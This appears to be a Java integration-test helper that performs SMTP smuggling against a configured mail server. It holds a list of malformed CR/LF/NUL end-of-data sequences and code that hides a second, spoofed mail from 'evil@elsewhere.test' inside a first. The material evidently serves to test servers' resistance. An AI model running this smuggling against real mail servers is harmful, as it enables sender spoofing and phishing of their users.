package org.clustergate.itests.world;

import java.io.EOFException;
import java.io.IOException;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/**
 * Hides a mail in a mail behind what some servers take for the end of the first: a dot between line
 * ends of which one is no CRLF (RFC 5321 section 4.1.1.4, VU#302671).
 */
public final class Smuggler {
    /** What stands between the first mail and the commands of the second. */
    public static final List<String> ENDS =
            List.of(
                    "\n.\n",
                    "\n.\r\n",
                    "\n.\r",
                    "\r.\r",
                    "\r.\n",
                    "\r.\r\n",
                    "\r\n.\n",
                    "\r\n.\r",
                    "\r\n.\r\r\n",
                    "\r\r\n.\r\r\n",
                    "\r\n.\n\r\n",
                    "\n\n.\r\n",
                    "\n\r.\n\r",
                    "\r\r.\r\n",
                    "\r\n\n.\n",
                    "\r\n\r.\r\n",
                    "\n..\r\n",
                    "\r\0\n.\r\n",
                    "\r\n\0.\r\n",
                    "\r\n.\0\r\n",
                    "\n\0.\n",
                    "\n.\0\n",
                    "\0\n.\n\0",
                    "\r\n.\0\r\n\n.\r\n");

    private static final int MOMENT = 2_000;
    private static final int PATIENCE = 30_000;

    private final Door door;
    private final MailUser first;
    private final MailUser second;

    /**
     * @param first whom the mail is openly for
     * @param second whom the hidden mail is for
     */
    public Smuggler(Door door, MailUser first, MailUser second) {
        this.door = door;
        this.first = first;
        this.second = second;
    }

    /** An end as people write it. */
    public static String shown(String end) {
        return end.replace("\r\n", "CRLF")
                .replace("\n", "LF")
                .replace("\r", "CR")
                .replace("\0", "NUL");
    }

    /**
     * Sends the mail and returns the answer to it.
     *
     * @param octets whether what is critical is sent octet by octet
     */
    public String send(String token, String end, boolean octets) throws IOException {
        try (Wire wire = begin(token)) {
            byte[] hidden = (end + commands()).getBytes(StandardCharsets.ISO_8859_1);
            if (octets) {
                for (byte octet : hidden) {
                    wire.send(new byte[] {octet});
                }
            } else {
                wire.send(hidden);
            }
            wire.say(content(token, "second") + "\r\n.");
            String reply = wire.line();
            quit(wire);
            return reply;
        }
    }

    /**
     * Sends the mail up to the end and goes on with the second when there is an answer: a server
     * that cuts off who pipelines is not spared. A real smuggler would do so by sending slowly.
     *
     * @param awaited whether there is an answer for sure; else there is none after a moment
     */
    public void sendInStep(String token, String end, boolean awaited) throws IOException {
        try (Wire wire = begin(token)) {
            wire.send(end.getBytes(StandardCharsets.ISO_8859_1));
            if (!awaited) {
                wire.patience(MOMENT);
            }
            try {
                wire.line();
                for (String command : commands().split("\r\n")) {
                    wire.ask(command);
                }
                wire.ask(content(token, "second") + "\r\n.");
            } catch (SocketTimeoutException e) {
                // It saw no end; this is one.
                wire.patience(PATIENCE);
                wire.say("\r\n.");
            }
            quit(wire);
        } catch (SocketException e) {
            hungUp(e);
        }
    }

    private Wire begin(String token) throws IOException {
        Wire wire = Wire.connect(door.host(), door.smtp());
        wire.until("220 ");
        wire.say("EHLO elsewhere.test");
        wire.until("250 ");
        wire.ask("MAIL FROM:<stranger@elsewhere.test>");
        String taken = wire.ask("RCPT TO:<" + first.address() + ">");
        if (taken == null || !taken.startsWith("250")) {
            wire.close();
            throw new AssertionError(first + ": " + taken);
        }
        wire.ask("DATA");
        wire.send(content(token, "first").getBytes(StandardCharsets.ISO_8859_1));
        return wire;
    }

    private static void quit(Wire wire) throws IOException {
        try {
            wire.say("QUIT");
            wire.until("221 ");
        } catch (SocketException | EOFException e) {
            hungUp(e);
        }
    }

    /** Some servers are so displeased that they cut the connection; what they have taken counts. */
    private static void hungUp(IOException e) {
        System.out.println("a smuggler's connection was cut: " + e.getMessage());
    }

    private static String content(String token, String text) {
        return "Subject: " + token + "\r\n\r\n" + text;
    }

    private String commands() {
        return "MAIL FROM:<evil@elsewhere.test>\r\nRCPT TO:<" + second.address() + ">\r\nDATA\r\n";
    }

    /**
     * The whole body that was sent, as it reads with a line end for each CRLF, CR and LF and
     * without NUL: lines end in LF here.
     */
    public String body(String token, String end) {
        String sent = "first" + end + commands() + content(token, "second");
        // RFC 5321 section 4.5.2: a dot is doubled only where a line begins, which is behind CRLF.
        return Stream.of(sent.split("\r\n", -1))
                .map(line -> line.startsWith(".") ? line.substring(1) : line)
                .map(line -> line.replace('\r', '\n').replace("\0", ""))
                .collect(Collectors.joining("\n"));
    }
}
